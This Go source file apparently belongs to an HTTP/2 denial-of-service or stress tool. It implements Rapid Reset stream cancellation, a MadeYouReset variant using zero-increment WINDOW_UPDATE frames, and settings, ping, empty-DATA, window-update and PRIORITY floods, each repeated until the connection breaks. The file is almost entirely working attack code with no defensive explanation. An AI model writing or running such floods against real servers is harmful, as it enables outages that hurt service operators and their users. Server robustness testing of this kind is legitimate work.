package main

import "golang.org/x/net/http2"

// rapidReset has the server begin with what it is then told not to do. (Requests that are
// answered before their reset has come are requests like others.)
func rapidReset(c *conn, amount int) int {
	return each(c, amount, func(i int) {
		c.open(streamID(i), slow, true)
		c.WriteRSTStream(streamID(i), http2.ErrCodeCancel)
	})
}

// madeYouReset breaks a rule on every stream: a WINDOW_UPDATE by nothing.
func madeYouReset(c *conn, amount int) int {
	return each(c, amount, func(i int) {
		c.open(streamID(i), slow, true)
		c.WriteWindowUpdate(streamID(i), 0)
	})
}

func settingsFlood(c *conn, amount int) int {
	return each(c, amount, func(int) { c.WriteSettings() })
}

func pingFlood(c *conn, amount int) int {
	return each(c, amount, func(int) { c.WritePing(false, [8]byte{}) })
}

func emptyData(c *conn, amount int) int {
	c.open(1, slow, false)
	return each(c, amount, func(int) { c.WriteData(1, false, nil) })
}

func windowUpdates(c *conn, amount int) int {
	return each(c, amount, func(int) { c.WriteWindowUpdate(0, 1) })
}

func priorities(c *conn, amount int) int {
	return each(c, amount, func(i int) { c.WritePriority(streamID(i), http2.PriorityParam{Weight: byte(i)}) })
}

// each plays the units of a flood until the connection breaks.
func each(c *conn, amount int, one func(i int)) (sent int) {
	for sent < amount && c.unit() {
		one(sent)
		sent++
	}
	c.send()
	return sent
}
